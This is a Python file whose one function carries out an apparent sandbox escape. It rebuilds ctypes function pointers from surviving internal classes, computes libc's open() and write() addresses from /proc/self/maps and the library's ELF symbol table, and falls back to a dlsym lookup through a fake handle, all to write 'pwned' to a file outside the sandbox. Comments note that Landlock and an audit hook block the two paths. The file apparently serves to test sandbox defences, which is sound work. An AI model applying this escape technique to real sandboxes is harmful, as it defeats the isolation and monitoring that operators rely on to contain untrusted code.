import struct


def symbol_offsets(path, wanted):
    """Offsets of ``wanted`` symbols in an ELF64 shared object (its .dynsym table)."""
    with open(path, "rb") as fh:
        elf = fh.read()
    (shoff,) = struct.unpack_from("<Q", elf, 0x28)
    shentsize, shnum = struct.unpack_from("<HH", elf, 0x3A)
    sections = [struct.unpack_from("<IIQQQQIIQQ", elf, shoff + i * shentsize) for i in range(shnum)]
    dynsym = next(s for s in sections if s[1] == 11)  # SHT_DYNSYM
    strtab = sections[dynsym[6]]
    found = {}
    for off in range(dynsym[4], dynsym[4] + dynsym[5], 24):
        name_at, _info, _other, _shndx, value, _size = struct.unpack_from("<IBBHQQ", elf, off)
        start = strtab[4] + name_at
        name = elf[start : elf.index(b"\0", start)].decode()
        if name in wanted and value:
            found[name] = value
    return found


def all_subclasses(root):
    seen, stack = [], [root]
    while stack:
        for sub in type.__subclasses__(stack.pop()):
            if sub not in seen:
                seen.append(sub)
                stack.append(sub)
    return seen


def f(x):
    # ctypes' C types outlive the lockdown that dropped the module (the fork server even keeps
    # them frozen): rebuild libc's open() and write() from them without importing ctypes.
    by_name = {c.__name__: c for c in all_subclasses(object)}
    simple, func_ptr = by_name["_SimpleCData"], by_name["CFuncPtr"]

    class Int(simple):
        _type_ = "i"

    class CharP(simple):
        _type_ = "z"

    class Open(func_ptr):
        _flags_ = 1
        _restype_ = Int
        _argtypes_ = (CharP, Int, Int)

    class Write(func_ptr):
        _flags_ = 1
        _restype_ = Int
        _argtypes_ = (Int, CharP, Int)

    # 1. From raw addresses (no dlopen/dlsym, so no audit event): libc's base from
    # /proc/self/maps, the symbols' offsets from the library file. Only the kernel (Landlock)
    # stops this one, silently: the open fails.
    libc_path, base = None, None
    for line in open("/proc/self/maps"):
        fields = line.split()
        if len(fields) >= 6 and "/libc.so" in fields[5] and fields[2] == "00000000":
            libc_path, base = fields[5], int(fields[0].split("-")[0], 16)
            break
    offsets = symbol_offsets(libc_path, {"open", "write"})
    libc_open, libc_write = Open(base + offsets["open"]), Write(base + offsets["write"])
    fd = libc_open(b"__OUTSIDE__", 0o101, 0o644)  # O_WRONLY | O_CREAT
    if fd < 0:
        # 2. By name through a fake library handle (dlsym on RTLD_DEFAULT): the audit hook
        # sees ``ctypes.dlsym`` and ends the process.

        class Libc:
            _handle = 0

        libc_open, libc_write = Open(("open", Libc())), Write(("write", Libc()))
        fd = libc_open(b"__OUTSIDE__", 0o101, 0o644)
    if fd < 0:
        return None
    libc_write(fd, b"pwned", 5)
    return 2
